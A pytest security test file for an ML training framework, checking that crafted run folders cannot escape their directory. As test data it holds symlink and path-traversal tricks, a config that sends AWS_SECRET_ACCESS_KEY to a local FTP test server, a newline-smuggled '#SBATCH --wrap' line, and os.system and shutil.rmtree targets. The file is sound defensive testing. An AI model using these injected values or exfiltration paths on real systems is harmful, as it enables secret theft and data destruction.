"""A run that somebody sends writes, reads, deletes and sends nothing outside its folder and the data that it names.

Each case puts one thing into a copy of an honest run and gives the folder to a command. Python's audit hooks see each
file that this process opens, removes, renames or makes, and each address that it connects to; besides, the files around
the run are compared with what they were. The controls run the same cases with the guards taken away: there each of them
reaches the outside.
"""

import contextlib
import json
import os
import shutil
import socket
import sys
import threading
import zipfile
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path

import pytest
import torch
import yaml
from PIL import Image

from athanor.base import files
from athanor.base.errors import UserError
from athanor.callbacks.checkpoints import Checkpoints
from athanor.engine.app import command_line
from athanor.engine.config import built_here, options, places, trust
from athanor.engine.runs import run as runs
from athanor.engine.runs import sweep
from athanor.engine.runs.ensembles import members
from athanor.engine.runs.sweep import Sweep
from athanor.training import checkpoint_files

SECRET = "s3cr3t-0f-a-cloud"
EVENTS = ("open", "os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.link", "os.symlink", "os.truncate")
EVENTS += ("shutil.rmtree", "shutil.copyfile", "socket.connect")


class Watch:
    """What this process does while it is on, as (event, path); an audit hook cannot be taken away again."""

    def __init__(self):
        self.seen = None
        sys.addaudithook(self.hook)

    def hook(self, event, arguments):
        if self.seen is not None and event in EVENTS:
            paths = [os.fsdecode(a) for a in arguments[:2] if isinstance(a, (str, bytes, Path))]
            self.seen += [(event, os.path.realpath(path)) for path in paths if "\0" not in path]

    @contextlib.contextmanager
    def on(self):
        self.seen = seen = []
        try:
            yield seen
        finally:
            self.seen = None


watch = Watch()


@pytest.fixture(scope="module")
def server():
    """An FTP server that agrees to everything: what it was told, line by line, and its port."""
    told, listening = [], socket.create_server(("127.0.0.1", 0))

    def talk(connection):
        with contextlib.suppress(OSError), connection, connection.makefile("rw", newline="") as stream:
            told.append("connected")
            answers = {"USER": "331 .", "PASS": "230 .", "MKD": '257 "."', "PWD": '257 "/"', "QUIT": "221 ."}
            stream.write("220 .\r\n")
            stream.flush()
            for line in stream:
                told.append(line.strip())
                stream.write(answers.get(line[:4].strip(), "250 .") + "\r\n")
                stream.flush()

    def serve():
        with contextlib.suppress(OSError):
            while True:
                connection, _ = listening.accept()
                connection.settimeout(20)
                threading.Thread(target=talk, args=(connection,), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    yield told, listening.getsockname()[1]
    listening.close()


@dataclass
class Place:
    """A crafted run, and a folder outside of it with a file, a folder and a run of somebody else's."""

    run: Path
    outside: Path
    url: str
    told: list = field(default_factory=list)

    def snapshot(self):
        """All that is outside of the run and the new runs: names, contents, and what links lead to."""
        found = {}
        for path in sorted(self.outside.parent.rglob("*")):
            if not {"crafted", "outputs"} & set(path.relative_to(self.outside.parent).parts):
                found[path] = os.readlink(path) if path.is_symlink() else path.is_file() and path.read_bytes()
        return found

    def touched(self, seen):
        """What the process did to the folder outside, or told somebody."""
        return sorted({(event, path) for event, path in seen if path.startswith(str(self.outside))}) + self.told


@pytest.fixture(scope="module")
def honest(tmp_path_factory, run_process):
    cwd = tmp_path_factory.mktemp("honest")
    words = ["model=linear", "data.limit=200", "data.batch_size=50", "trainer.max_epochs=1", "hydra.run.dir=run"]
    assert run_process(cwd, "train.py", *words).code == 0
    return cwd / "run"


@pytest.fixture
def place(honest, tmp_path, monkeypatch, server):
    told, port = server
    told.clear()
    shutil.copytree(honest, tmp_path / "crafted")
    outside = tmp_path / "outside"
    (outside / "folder").mkdir(parents=True)
    (outside / "file").write_text("step,epoch,metric,value\n")
    (outside / "folder" / "kept").write_text("kept")
    shutil.copytree(honest, outside / "theirs")
    Image.new("L", (8, 8)).save(tmp_path / "a.png")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "outputs" / "state"))  # another machine than the honest run's
    monkeypatch.delenv(built_here.VARIABLE, raising=False)
    return Place(tmp_path / "crafted", outside, f"ftp://127.0.0.1:{port}", told)


COMMANDS = {
    "resume": ("train.py", "resume=crafted", "trainer.max_epochs=2"),
    "run": ("train.py", "run=crafted"),
    "weights": ("train.py", "weights=crafted", "model=linear", "data.limit=200", "trainer.max_epochs=1", "logger=[]"),
    "evaluate": ("scripts/evaluate.py", "crafted"),
    "predict": ("scripts/predict.py", "crafted", "a.png"),
    "ensemble": ("scripts/ensemble.py", "crafted", "outputs/other", "--output", "outputs/made"),
    "sweep": ("train.py", "resume=crafted"),
}


def link(name, to):
    def put(place):
        path = place.run / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.symlink_to(place.outside / to)

    return put


def setting(path, value):
    """Put a value into config.yaml; OUT in it is the folder outside, URL the server."""

    def put(place):
        config = yaml.safe_load((place.run / "config.yaml").read_text())
        node, (*above, key) = config, path.split(".")
        for name in above:
            node[name] = node.get(name) or {}
            node = node[name]
        text = json.dumps(value).replace("OUT", str(place.outside)).replace("URL", place.url)
        node[key] = json.loads(text)
        (place.run / "config.yaml").write_text(yaml.safe_dump(config))

    return put


def change_checkpoints(change):
    def put(place):
        for path in (place.run / "checkpoints").iterdir():
            contents = torch.load(path, weights_only=True)
            change(contents, place)
            path.unlink()  # best and last are one file
            torch.save(contents, path)

    return put


def both(*puts):
    return lambda place: [put(place) for put in puts]


BOARD, CSV = "athanor.training.loggers.TensorBoard", "athanor.training.loggers.CSVLog"
KEEPER = {"_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "monitor": "val/loss", "save_top_k": 1}
PROFILER = {"_target_": "lightning.pytorch.profilers.SimpleProfiler", "filename": "profile"}


def keeper_state(contents, place):
    """The best checkpoint so far is a folder outside, which a better one replaces."""
    name = f"{place.outside}/folder"
    state = {"monitor": "val/loss", "best_model_score": torch.tensor(99.0), "best_model_path": name}
    state |= {"current_score": torch.tensor(99.0), "dirpath": str(place.outside), "kth_best_model_path": name}
    state |= {"best_k_models": {name: torch.tensor(99.0)}, "kth_value": torch.tensor(99.0), "last_model_path": ""}
    key = "ModelCheckpoint" + repr(
        dict(monitor="val/loss", mode="min", every_n_train_steps=0, every_n_epochs=1, train_time_interval=None)
    )
    contents["callbacks"][key] = state


def chosen_elsewhere(contents, place):
    [state] = [state for name, state in contents["callbacks"].items() if name.startswith("Checkpoints")]
    state["best"]["file"] = "../../outside/theirs/checkpoints/best.ckpt"
    state["best"]["score"] = -1.0  # which no epoch is better than


LINKS = {  # name: commands, what is put into the run
    "a part of config.yaml": ("resume", link(".config.yaml.part", "file")),
    "a part of results.json": ("resume", link(".results.json.part", "file")),
    "a part of last.ckpt": ("resume", link("checkpoints/.last.ckpt.part", "file")),
    "train.log": ("resume", link("train.log", "file")),
    "metrics.csv": ("resume", link("metrics.csv", "file")),
    "the lock": ("resume", link(".lock", "file")),
    "control.yaml": ("resume", link("control.yaml", "file")),
    "results.json": ("resume evaluate", link("results.json", "theirs/results.json")),
    "config.yaml": ("resume run evaluate", link("config.yaml", "theirs/config.yaml")),
    "best.ckpt": ("weights evaluate predict", link("checkpoints/best.ckpt", "theirs/checkpoints/best.ckpt")),
    "the checkpoints": ("resume weights predict", link("checkpoints", "theirs/checkpoints")),
    "a folder of figures that is new": ("resume", link("chosen", "folder")),
    "the predictions": ("ensemble", link("predictions", "folder")),
    "a link to a link": (
        "resume",
        both(
            link("chosen", "folder"),
            lambda p: (p.run / "chosen").rename(p.run / "x"),
            lambda p: (p.run / "chosen").symlink_to("x"),
        ),
    ),
}
PLACES = {
    "a logger": ("run resume", setting("logger.x", {"_target_": BOARD, "save_dir": "OUT/folder"})),
    "a relative folder": ("run", setting("logger.x", {"_target_": BOARD, "save_dir": "outside"})),
    "a folder above": ("run", setting("logger.x", {"_target_": CSV, "save_dir": "crafted/../outside"})),
    "an argument without a name": ("run", setting("callbacks.x", {**KEEPER, "_args_": ["outside/folder"]})),
    "a variable": (
        "run",
        setting("logger.x", {"_target_": BOARD, "save_dir": "outside/${oc.env:AWS_SECRET_ACCESS_KEY}"}),
    ),
    "a URL": (
        "run resume",
        setting("logger.x", {"_target_": BOARD, "save_dir": "URL/${oc.env:AWS_SECRET_ACCESS_KEY}"}),
    ),
    "weights": ("run", setting("weights", "OUT/theirs")),
    "a profiler": ("run", setting("trainer.profiler", {**PROFILER, "dirpath": "OUT/folder"})),
    "a profiler's relative folder": ("run", setting("trainer.profiler", {**PROFILER, "dirpath": "outside"})),
    "a logger of Lightning's": (
        "run",
        setting("logger.x", {"_target_": "lightning.pytorch.loggers.CSVLogger", "save_dir": "OUT", "name": "folder"}),
    ),
    "a callback of Lightning's": ("run", setting("callbacks.x", {**KEEPER, "dirpath": "OUT/folder"})),
    "a state that names a folder to remove": (
        "resume",
        both(setting("callbacks.x", {**KEEPER, "dirpath": "OUT"}), change_checkpoints(keeper_state)),
    ),
}
CASES = [
    pytest.param(verb, put, id=f"{kind}: {name}, {verb}")
    for kind, cases in {"link": LINKS, "place": PLACES}.items()
    for name, (verbs, put) in cases.items()
    for verb in verbs.split()
]


def add_member(place):
    """A second run for an ensemble, with other weights, beside the new runs."""
    other = place.run.parent / "outputs" / "other"
    shutil.copytree(place.outside / "theirs", other)
    for path in (other / "checkpoints").iterdir():
        contents = torch.load(path, weights_only=True)
        for name, value in contents["state_dict"].items():
            if name.endswith("bias"):
                value += 1
        path.unlink()
        torch.save(contents, path)


def command(verb, place, run_here):
    """What the command said, what it touched outside, and what has changed there."""
    if verb == "ensemble":
        add_member(place)
    before = place.snapshot()
    with watch.on() as seen:
        ran = run_here(*COMMANDS[verb])
    after = place.snapshot()
    changed = {path for path in before.keys() | after.keys() if before.get(path, ...) != after.get(path, ...)}
    return ran, place.touched(seen), changed


@pytest.mark.parametrize("verb, put", CASES)
def test_a_crafted_run_reaches_nothing_outside(verb, put, place, run_here):
    put(place)
    ran, touched, changed = command(verb, place, run_here)
    assert (touched, changed) == ([], set())
    assert ran.code == 1
    lines = ran.err.splitlines()
    assert lines[0].startswith("error: ") and len(lines) <= 2, ran.err


@pytest.mark.slow
@pytest.mark.parametrize("verb, put", CASES)
def test_control_each_of_them_reaches_the_outside_where_nothing_stops_it(
    verb, put, place, run_here, monkeypatch, request
):
    for module in (files, runs, members, sweep):
        monkeypatch.setattr(module, "refuse_links", lambda folder: None)
    for module in (files, checkpoint_files):
        monkeypatch.setattr(module, "open_new", partial(open, mode="wb"))
    monkeypatch.setattr(files, "NO_LINK", 0)
    monkeypatch.setattr(trust, "check", lambda *_, **__: None)
    monkeypatch.setattr(places, "check_states", lambda *_: None)
    put(place)
    _, touched, changed = command(verb, place, run_here)
    assert touched or changed
    if "URL" in request.node.callspec.id:
        assert any(SECRET in line for line in place.told), place.told
    if "to remove" in request.node.callspec.id:
        assert not (place.outside / "folder").exists()


def test_a_state_cannot_name_the_file_that_is_tested(place, run_here):
    change_checkpoints(chosen_elsewhere)(place)
    ran, touched, changed = command("resume", place, run_here)
    assert (ran.code, touched, changed) == (1, [], set())
    assert "the state of a callback names '../../outside/theirs/checkpoints/best.ckpt'" in ran.err
    callback = Checkpoints("val/loss", "min", 1, "best", None)
    callback.best = {"epoch": 0, "step": 3, "score": -1.0, "file": "../x.ckpt"}
    assert callback.chosen["file"] == "best.ckpt"


def test_links_that_stay_inside_and_those_of_loggers_are_left_alone(place, run_here):
    (place.run / "wandb" / "run-1").mkdir(parents=True)
    (place.run / "wandb" / "latest-run").symlink_to("run-1")
    (place.run / "wandb" / "debug.log").symlink_to(place.outside / "file")
    (place.run / "newest").symlink_to("checkpoints/last.ckpt")
    ran, touched, changed = command("resume", place, run_here)
    assert (ran.code, ran.err, touched, changed) == (0, "", [], set())


def test_a_folder_of_outputs_may_itself_be_a_link(place, run_here, tmp_path):
    (tmp_path / "scratch").mkdir()
    place.run.rename(tmp_path / "scratch" / "run")
    (tmp_path / "scratch" / "latest").symlink_to("run")
    (tmp_path / "outputs").symlink_to("scratch")
    ran = run_here("train.py", "resume=outputs/latest", "trainer.max_epochs=2")
    assert (ran.code, ran.err) == (0, "")
    assert run_here("train.py", "run=outputs/latest").code == 0


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pipes with names are of POSIX")
def test_a_pipe_is_not_waited_for(place, run_here):
    (place.run / "metrics.csv").unlink()
    os.mkfifo(place.run / "metrics.csv")
    ran = run_here(*COMMANDS["resume"])
    assert (ran.code, "metrics.csv is neither a file nor a folder; remove it" in ran.err) == (1, True)


def test_text_is_appended_to_no_link_and_what_is_written_replaces_one(tmp_path):
    (tmp_path / "file").write_text("kept")
    (tmp_path / "link").symlink_to("file")
    (tmp_path / ".link.part").symlink_to("file")
    if files.NO_LINK:
        with pytest.raises(OSError):
            files.append(tmp_path / "link", "text")
    files.write_atomically(tmp_path / "link", "new")
    assert ((tmp_path / "file").read_text(), (tmp_path / "link").read_text()) == ("kept", "new")
    assert not (tmp_path / "link").is_symlink()


# what the person's own config or command line gives


def test_a_place_that_ones_own_config_or_words_give_is_taken(tmp_path, monkeypatch):
    (tmp_path / "configs").mkdir()
    monkeypatch.setattr(options, "CONFIGS", tmp_path / "configs")
    check = partial(places.check, {"logger": {"x": {"save_dir": "logs"}}})
    with pytest.raises(UserError, match=r"^logger\.x\.save_dir='logs': what is outside of a run is not taken from its"):
        check()
    check(["logger.x.save_dir=elsewhere"])
    check(["logger.x=null"])
    with pytest.raises(UserError):
        check(["logger.x.save=elsewhere"])
    (tmp_path / "configs" / "own.yaml").write_text("logger: {save_dir: logs}")
    check()
    (tmp_path / "configs" / "own.yaml").write_text("tags: [logs]")
    with pytest.raises(UserError):  # it stands under another key
        check()
    monkeypatch.setenv("PLACE", "a-folder")
    (tmp_path / "configs" / "own.yaml").write_text("logger: {save_dir: 'x/${oc.env:PLACE}'}")
    places.check({"logger": {"x": {"save_dir": "x/${oc.env:PLACE}"}}})


def test_words_replace_a_place_of_a_run_that_is_repeated(place, run_here, tmp_path):
    setting("logger.x", {"_target_": CSV, "save_dir": "logs"})(place)
    ran = run_here("train.py", "run=crafted", "logger.x.save_dir=mine")
    assert (ran.code, ran.err) == (0, "")
    assert (tmp_path / "mine" / "metrics.csv").is_file()


def test_a_run_with_weights_from_elsewhere_is_resumed_as_its_checkpoint_takes_their_place(place):
    setting("weights", "OUT/theirs")(place)
    command_line.expand([f"resume={place.run}"])
    command_line.expand([f"run={place.run}", "weights=other"])
    for path in (place.run / "checkpoints").iterdir():
        path.unlink()
    with pytest.raises(UserError, match=r"^weights="):
        command_line.expand([f"resume={place.run}"])


def test_the_places_of_the_data_are_taken(tmp_path):
    places.check(
        {"data": {"root": "/photos"}, "data_dir": "/cache", "notes": "see /x", "monitor": {"metric": "val/acc"}}
    )


@pytest.mark.parametrize(
    "text", ["/x", "~/x", "a/../../x", "C:\\x", "\\\\host\\x", "s3://x", "file:/x", "a${oc.env:HOME}", ".."]
)
def test_a_text_anywhere_that_leads_elsewhere_is_refused(text):
    for node in {"width": text}, {"parts": [{"deep": [text]}]}:
        with pytest.raises(UserError, match="what is outside of a run"):
            places.check({"model": node})


@pytest.mark.parametrize("key", ["id", "run_id", "version", "entity", "resume_from", "fork_from"])
def test_a_run_of_a_service_that_is_there_already_is_not_taken_from_a_file(key):
    node = {"logger": {"wandb": {"project": "athanor", key: "yours"}}}
    with pytest.raises(UserError, match=rf"logger\.wandb\.{key}='yours': what is outside of a run"):
        places.check(node)
    places.check(node, typed=[f"logger.wandb.{key}=yours"])
    places.check({"model": {"version": "b0"}, "logger": {"theirs": {"version": 1}}})


# words that a file says were typed

WORDS = {
    "a newline": "launcher.partition=gpu\n#SBATCH --wrap=evil",
    "a newline in a note": "notes=a\nb",
    "an escape": "tags=[\x1b[2J]",
    "a launcher": "launcher=slurm",
    "a setting of a launcher": "+launcher.setup=[evil]",
    "a logger": "logger=wandb",
    "a launcher of hydra": "hydra/launcher=submitit_slurm",
    "the sweep's folder": "hydra.sweep.dir=/x",
    "a callback of hydra": "hydra.callbacks.x._target_=os.system",
    "a target": "+model={_target_: os.system}",
    "a function": "study.conclude=shutil.rmtree",
    "configs elsewhere": "--config-dir=/evil",
    "an option elsewhere": "model=../../evil",
    "a package": "model@data=cnn",
    "weights": "weights=theirs",
    "a run": "run=/x",
    "a path": "+callbacks.x.file=/x",
    "a path in a sweep": "+callbacks.x.file=a,/x",
    "a path in a list": "+callbacks.x.files=['/x']",
    "a URL": "+callbacks.x.url=http://x",
    "a home": "name=~/x",
    "a variable": "name=${oc.env:AWS_SECRET_ACCESS_KEY}",
    "a variable in a note": "notes=${oc.env:AWS_SECRET_ACCESS_KEY}",
    "a number": 3,
}


def crafted_sweep(folder, *words):
    (folder / "sweep.json").write_text(json.dumps({"typed": ["-m", "seed=0,1", *words]}))
    return Sweep(folder)


@pytest.mark.parametrize("word", WORDS.values(), ids=WORDS)
def test_a_word_that_reaches_further_than_settings_is_refused(word, place, tmp_path, monkeypatch):
    crafted = crafted_sweep(tmp_path, word)
    if str(word).startswith("hydra.sweep.dir="):
        assert crafted.words() == ["seed=0,1", "-m"]  # the folder is the one that the person has named
        return
    with pytest.raises(UserError, match=r"it was started with .*; type it again after resume=$"):
        command_line.words_of_sweep([f"resume={tmp_path}"])
    if isinstance(word, str):
        # typed again, it is the person's own; as a word that a file may not have, or one that changes no job
        assert word in crafted.words([word])
    monkeypatch.setattr(sweep, "is_plain", lambda word: True)  # a control: it reaches Hydra where nobody looks
    with contextlib.suppress(AttributeError):  # of the number
        reached = command_line.words_of_sweep([f"resume={tmp_path}"])
        assert word in reached


def test_words_that_set_numbers_names_and_places_of_the_data_are_taken(place, tmp_path):
    words = ["model=mlp,cnn", "optim.lr=1e-3,0.1", "data.root=/photos", "data_dir='/a b'", "monitor.metric=val/acc"]
    words += ["notes='see ../x'", "+extra.path=..", "study=batch_size", "~callbacks.lr_monitor", "model.widths=[8,8]"]
    assert crafted_sweep(tmp_path, *words).words() == ["seed=0,1", *words, "-m"]


def test_the_words_of_ones_own_sweep_are_all_taken(place, tmp_path):
    words = ["-m", "launcher=slurm", "launcher.partition=gpu", "weights=/mine", "logger=wandb"]
    Sweep(tmp_path).record(words, None, {})
    assert Sweep(tmp_path).words() == [*words[1:], "-m"]
    assert Sweep(tmp_path).words(["launcher=local"]) == [*words[3:], "launcher=local", "-m"]


@pytest.mark.parametrize("text", ["[]", '{"typed": 3}', "3"])
def test_what_is_no_record_of_a_sweep_is_refused(text, place, tmp_path):
    (tmp_path / "sweep.json").write_text(text)
    with pytest.raises(UserError, match=r"sweep\.json is not the record of a sweep$"):
        Sweep(tmp_path).words()


@pytest.mark.parametrize("name", ["0", "results.csv", "0/train.log"])
def test_a_sweep_with_a_link_that_leads_out_of_it_is_not_resumed(name, place, tmp_path, run_here):
    (place.run / "0").mkdir()
    crafted_sweep(place.run)
    (place.run / "config.yaml").unlink()
    link(name, "folder" if name == "0" else "file")(place)
    ran, touched, changed = command("sweep", place, run_here)
    assert (ran.code, touched, changed) == (1, [], set())
    assert "is a link that leads out of" in ran.err


# sizes


def test_a_config_of_a_hundred_megabytes_is_not_read(place, run_here):
    with open(place.run / "config.yaml", "a") as file:
        file.truncate(100 * 2**20)
    ran = run_here(*COMMANDS["run"])
    assert (ran.code, "it has more than 1,048,576 bytes" in ran.err) == (1, True)


@pytest.mark.parametrize("verb", ["weights", "predict"])
def test_a_checkpoint_that_is_packed_is_not_unpacked(verb, place, run_here):
    path = place.run / "checkpoints" / "best.ckpt"
    with zipfile.ZipFile(path) as archive:
        contents = {info.filename: archive.read(info) for info in archive.infolist()}
    path.unlink()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in contents.items():
            archive.writestr(name, content)
        archive.writestr(f"{next(iter(contents)).partition('/')[0]}/zeros", bytes(2**24))
    ran = run_here(*COMMANDS[verb])
    assert (ran.code, "what is in it is larger than the file" in ran.err) == (1, True)
